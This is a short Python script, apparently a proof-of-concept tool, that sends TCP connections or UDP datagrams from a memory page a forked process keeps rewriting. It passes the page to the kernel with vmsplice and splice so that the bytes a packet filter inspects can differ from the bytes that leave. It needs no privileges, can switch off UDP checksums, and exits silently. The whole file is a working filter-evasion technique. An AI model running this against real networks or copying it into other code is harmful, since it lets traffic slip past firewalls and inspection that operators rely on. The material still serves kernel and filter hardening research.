"""Sends packets whose page changes all the time, without privileges: pageflip.py ADDRESS PORT ONE OTHER COUNT [HOW].

The page is given to the kernel and is still ours to write. Another process writes ONE and OTHER into it in turn, so what
a filter reads need not be what leaves afterwards. ONE and OTHER are hexadecimal and equally long. Opens COUNT connections
one after the other, or sends COUNT datagrams where HOW is "udp", or such without a checksum where it is "unsummed"; ends
without a word.
"""
import ctypes
import mmap
import os
import signal
import socket
import sys

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def opened(address, port, how):
    if how == "tcp":
        return socket.create_connection((address, port), 3)
    link = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    if how == "unsummed":
        link.setsockopt(socket.SOL_SOCKET, 11, 1)  # SO_NO_CHECK
    link.connect((address, port))
    return link


def main(address, port, one, other, count, how="tcp"):
    one, other = bytes.fromhex(one), bytes.fromhex(other)
    page = mmap.mmap(-1, mmap.PAGESIZE)  # shared with the process that writes
    page[:len(one)] = one
    place = ctypes.addressof(ctypes.c_char.from_buffer(page))
    writer = os.fork()
    if writer == 0:
        while True:
            ctypes.memmove(place, other, len(other))
            ctypes.memmove(place, one, len(one))
    try:
        for _ in range(int(count)):
            outgoing, incoming = os.pipe()
            try:
                with opened(address, int(port), how) as link:
                    vector = Vector(place, len(one))
                    if libc.vmsplice(incoming, ctypes.byref(vector), 1, 0) == len(one):
                        libc.splice(outgoing, None, link.fileno(), None, len(one), 0)
                    link.settimeout(0.2 if how == "tcp" else 0.02)
                    link.recv(1)
            except OSError:
                pass
            finally:
                os.close(outgoing)
                os.close(incoming)
    finally:
        os.kill(writer, signal.SIGKILL)
        os.waitpid(writer, 0)


main(*sys.argv[1:])
